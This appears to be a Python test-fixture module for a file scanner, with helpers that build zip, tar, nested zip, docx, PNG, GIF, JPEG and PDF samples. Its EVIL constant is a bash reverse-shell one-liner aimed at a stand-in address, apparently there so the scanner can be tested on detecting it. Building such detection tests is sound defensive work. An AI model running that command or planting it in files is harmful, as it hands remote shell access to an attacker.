"""Archives, documents and pictures to scan in tests."""

from __future__ import annotations

import gzip
import io
import struct
import tarfile
import zipfile
import zlib

HARMLESS = b"Be kind.\n"
EVIL = b"bash -i >& /dev/tcp/203.0.113.7/4444 0>&1\n"
Members = dict[str, bytes]


def zipped(members: Members, *, squeeze: bool = True, mode: int = 0o644) -> bytes:
    """A zip of these members."""
    buffer = io.BytesIO()
    with zipfile.ZipFile(buffer, "w", zipfile.ZIP_DEFLATED if squeeze else zipfile.ZIP_STORED) as archive:
        for name, content in members.items():
            info = zipfile.ZipInfo(name)
            info.external_attr = mode << 16
            archive.writestr(info, content, zipfile.ZIP_DEFLATED if squeeze else zipfile.ZIP_STORED)
    return buffer.getvalue()


def tarred(members: Members, *, kind: bytes = tarfile.REGTYPE, link: str = "", form: int = tarfile.PAX_FORMAT) -> bytes:
    """A tar of these members."""
    buffer = io.BytesIO()
    with tarfile.open(fileobj=buffer, mode="w", format=form) as archive:
        for name, content in members.items():
            info = tarfile.TarInfo(name)
            info.type, info.linkname = kind, link
            info.size = len(content) if kind == tarfile.REGTYPE else 0
            archive.addfile(info, io.BytesIO(content))
    return buffer.getvalue()


def tar_gz(members: Members) -> bytes:
    """A compressed tar of these members."""
    return gzip.compress(tarred(members), mtime=0)


def nested(content: bytes, *, levels: int) -> bytes:
    """Zips in zips, with this content at the bottom."""
    for _ in range(levels):
        content = zipped({"inner.zip": content})
    return content


def docx(text: str, *, more: Members | None = None) -> bytes:
    """A document with this text."""
    body = f"<w:document><w:body><w:p><w:r><w:t>{text}</w:t></w:r></w:p></w:body></w:document>"
    parts = {
        "[Content_Types].xml": b"<Types><Default Extension='xml'/></Types>",
        "_rels/.rels": b"<Relationships><Relationship Id='1' Type='x/document' Target='word/document.xml'/></Relationships>",
        "word/document.xml": body.encode(),
        "word/styles.xml": b"<w:styles>" + b"<w:style w:name='a'/>" * 2_000 + b"</w:styles>",
        "word/printerSettings/printerSettings1.bin": bytes(range(256)),
    }
    return zipped(parts | (more or {}))


def chunk(kind: bytes, data: bytes) -> bytes:
    """A chunk of a PNG."""
    return struct.pack(">I", len(data)) + kind + data + struct.pack(">I", zlib.crc32(kind + data))


def png(*chunks: bytes, trailer: bytes = b"") -> bytes:
    """A proper picture with more chunks and a trailer."""
    head = chunk(b"IHDR", struct.pack(">2I5B", 1, 1, 8, 0, 0, 0, 0))
    body = chunk(b"IDAT", zlib.compress(b"\0\0"))
    return b"\x89PNG\r\n\x1a\n" + head + b"".join(chunks) + body + chunk(b"IEND", b"") + trailer


def gif(*, comment: bytes = b"", trailer: bytes = b"") -> bytes:
    """A proper picture with a comment and a trailer."""
    note = b"!\xfe" + bytes([len(comment)]) + comment + b"\0" if comment else b""
    return b"GIF89a" + struct.pack("<2H3B", 1, 1, 0, 0, 0) + note + b",\0\0\0\0\1\0\1\0\0\2\2D\1\0;" + trailer


def jpeg(*, comment: bytes = b"", trailer: bytes = b"") -> bytes:
    """Something that has the form of a picture, with a comment and a trailer."""
    note = b"\xff\xfe" + struct.pack(">H", len(comment) + 2) + comment if comment else b""
    return (
        b"\xff\xd8\xff\xe0\0\x10JFIF\0"
        + bytes(9)
        + note
        + b"\xff\xda\0\x08"
        + bytes(6)
        + b"\x12\x34\0" * 9
        + b"\xff\xd9"
        + trailer
    )


def pdf(*objects: bytes) -> bytes:
    """A document of these objects."""
    numbered = b"".join(b"%d 0 obj\n%s\nendobj\n" % (number, one) for number, one in enumerate(objects, start=1))
    return b"%PDF-1.7\n%\xe2\xe3\xcf\xd3\n" + numbered + b"trailer << /Root 1 0 R >>\n%%EOF\n"


def pdf_stream(data: bytes, *, head: bytes = b"") -> bytes:
    """A compressed stream of a PDF."""
    packed = zlib.compress(data)
    return b"<< /Filter /FlateDecode /Length %d %s >>\nstream\n%s\nendstream" % (len(packed), head, packed)
